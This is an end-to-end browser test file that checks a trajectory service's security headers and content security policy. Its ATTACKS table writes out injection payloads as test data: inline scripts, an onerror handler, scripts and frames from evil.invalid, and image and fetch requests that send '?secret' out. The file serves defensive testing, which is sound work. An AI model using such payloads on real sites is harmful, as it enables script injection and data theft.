"""Security headers and the content security policy as a real browser keeps them."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path

import httpx
import pytest

from tedtrajrec.data.sampling import thin_trips
from tedtrajrec.network.synthetic import SIZES, synthetic_city
from tedtrajrec.trips.simulate import simulate_trips
from tedtrajrec.trips.writers import write_trips
from tests.e2e.conftest import Tab

OpenTab = Callable[..., Tab]

HEADERS = {
    "content-security-policy": "script-src 'self';",
    "x-frame-options": "DENY",
    "x-content-type-options": "nosniff",
    "referrer-policy": "no-referrer",
    "cross-origin-opener-policy": "same-origin",
    "cross-origin-resource-policy": "same-origin",
}
ADD = "([tag, given]) => { document.body.append(Object.assign(document.createElement(tag), given)); }"
ATTACKS = {
    "an inline script": (ADD, ["script", {"textContent": "globalThis.attacked = true"}], "script-src-elem"),
    "an event handler": (
        ADD,
        ["div", {"innerHTML": "<img src='data:,' onerror='globalThis.attacked = true'>"}],
        "script-src-attr",
    ),
    "a script of another host": (ADD, ["script", {"src": "http://evil.invalid/x.js"}], "script-src-elem"),
    "a picture that carries data away": (ADD, ["img", {"src": "http://evil.invalid/?secret"}], "img-src"),
    "a style": (ADD, ["style", {"textContent": "body { display: none }"}], "style-src-elem"),
    "a frame": (ADD, ["iframe", {"src": "http://evil.invalid/"}], "frame-src"),
    "another base": (ADD, ["base", {"href": "http://evil.invalid/"}], "base-uri"),
    "data sent away": ("(url) => { fetch(url).catch(() => {}); }", "http://evil.invalid/?secret", "connect-src"),
    "words that become code": (  # later: what a test evaluates may use eval
        "(words) => { setTimeout(() => { try { eval(words); } catch {} }); }",
        "globalThis.attacked = true",
        "script-src",
    ),
}
"""What is done in the page, with what, and what forbids it."""


@pytest.fixture(scope="module")
def service(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[httpx.Client, Path]]:
    """Serve a made-up city; return a client and a file of sparse trips."""
    pytest.importorskip("fastapi", reason="the service is not installed")
    from tedtrajrec.server.settings import ServerSettings
    from tests.server.running import running

    folder = tmp_path_factory.mktemp("headers")
    city = synthetic_city(config=SIZES["small"])
    city.save(folder / "city.npz")
    write_trips(thin_trips(simulate_trips(city, trips=2, seed=3), "1/4"), folder / "sparse.csv")
    with running(ServerSettings(network=folder / "city.npz")) as client:
        yield client, folder / "sparse.csv"


@pytest.fixture(scope="module")
def tab(service: tuple[httpx.Client, Path], open_tab: OpenTab) -> Tab:
    """Return the page with a trip drawn, which has kept to its policy so far."""
    client, sparse = service
    opened = open_tab(str(client.base_url))
    opened.page.add_init_script(
        "document.addEventListener('securitypolicyviolation',"
        " ({ effectiveDirective }) => (globalThis.stopped ??= []).push(effectiveDirective))"
    )
    headers = opened.page.reload().headers
    for name, value in HEADERS.items():
        assert value in headers[name]
    opened.until("globalThis.tedtrajrec?.network")
    opened.page.set_input_files("#file", sparse)
    opened.drawn()
    assert opened.errors == []
    assert opened.page.evaluate("globalThis.stopped === undefined")
    return opened


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_policy_stops(attack: str, tab: Tab) -> None:
    script, given, directive = ATTACKS[attack]
    tab.page.evaluate("globalThis.stopped = []")
    tab.page.evaluate(script, given)
    assert directive in tab.until("globalThis.stopped.length && globalThis.stopped")
    assert tab.page.evaluate("globalThis.attacked === undefined")


def test_the_page_cannot_be_framed(service: tuple[httpx.Client, Path], open_tab: OpenTab) -> None:
    client, _ = service
    framing = open_tab("data:text/html,<iframe></iframe>")
    framing.page.evaluate("(url) => { document.querySelector('iframe').src = url; }", str(client.base_url))
    while (url := framing.page.frames[1].url) in {"", "about:blank"}:
        framing.page.wait_for_timeout(20)
    assert url.startswith("chrome-error:")  # and not the page
